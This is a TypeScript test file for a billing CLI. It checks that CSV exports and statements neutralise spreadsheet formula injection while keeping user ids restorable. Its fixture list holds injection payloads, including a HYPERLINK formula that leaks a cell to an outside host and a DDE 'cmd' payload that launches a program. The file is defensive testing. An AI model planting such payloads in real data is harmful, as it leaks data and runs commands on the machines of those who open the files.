/**
 * CSV of `export` and `statement`: no cell that a spreadsheet would execute, and user ids that a program can restore.
 */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { meterfold, startWorker } from '../support/processes.js';
import { bill } from '../support/runs.js';
import { freshStack, type Stack } from '../support/stack.js';

/**
 * User ids that a spreadsheet takes for a formula, with characters that it skips before one, or that look like a
 * neutralised cell.
 */
const USERS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\ufeff=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠1',
  '=HYPERLINK("http://example.com?"&A1,"a")',
  "=cmd|'/C calc'!A0",
  'a;=1',
  "'=1",
  "''=1",
  "'",
  "o'clock",
  'plain',
  '1-1',
];

let stack: Stack;
beforeAll(async () => {
  stack = await freshStack();
  await startWorker(stack);
  await stack.pool.query(
    `insert into public.api_logs (user_id, usage, called_at)
     select user_id, 3, '2026-06-01Z' from unnest($1::text[]) user_id, generate_series(1, 6)`,
    [USERS],
  );
  await bill(stack);
});
afterAll(() => stack.close());

/** Parses CSV by RFC 4180. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (let at = 0; at < text.length; ) {
    const quoted = text[at] === '"';
    const cell = (quoted ? /"((?:[^"]|"")*)"/y : /([^,\n]*)/y) as RegExp;
    cell.lastIndex = at;
    const [whole, inner] = cell.exec(text)!;
    rows.at(-1)!.push(quoted ? inner!.replaceAll('""', '"') : inner!);
    at += whole.length;
    if (text[at] === '\n' && at + 1 < text.length) rows.push([]);
    at++;
  }
  return rows;
}

/** Restores a user id as documented. */
const original = (cell: string) => cell.replace(/^'/, '');

const EXECUTED = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;

test('an export has no cell that a spreadsheet executes, and each user id can be restored', async () => {
  const { stdout } = await meterfold(stack, ['export', '--run', '1', '--csv']);
  const [, ...rows] = readCsv(stdout);
  expect(rows).toHaveLength(USERS.length);
  expect(rows.flat().filter((cell) => EXECUTED.test(cell))).toEqual([]);
  expect(rows.map(([user]) => original(user!)).sort()).toEqual([...USERS].sort());
  // Plain user ids and numbers are unchanged.
  expect(
    rows
      .map(([user]) => user)
      .filter((user) => !user!.startsWith("'"))
      .sort(),
  ).toEqual(['1-1', 'a;=1', "o'clock", 'plain'].sort());
  for (const row of rows) expect(row.slice(1, 6)).toEqual(['1', '5', '15', '0.006', 'USD']);
});

test.each(USERS)('the statement of %j has no cell that a spreadsheet executes', async (user) => {
  const { stdout } = await meterfold(stack, ['statement', '--csv', '--', user]);
  const [, ...rows] = readCsv(stdout);
  expect(rows.map(([row, id]) => [row, original(id!)])).toEqual([
    ['cycle', user],
    ['total', user],
    ['open', user],
  ]);
  expect(rows.flat().filter((cell) => EXECUTED.test(cell))).toEqual([]);
});

test('JSON has unchanged user ids', async () => {
  const { stdout } = await meterfold(stack, ['export', '--run', '1', '--json']);
  const users = JSON.parse(stdout).records.map((record: { user_id: string }) => record.user_id);
  expect(users.sort()).toEqual([...USERS].sort());
});
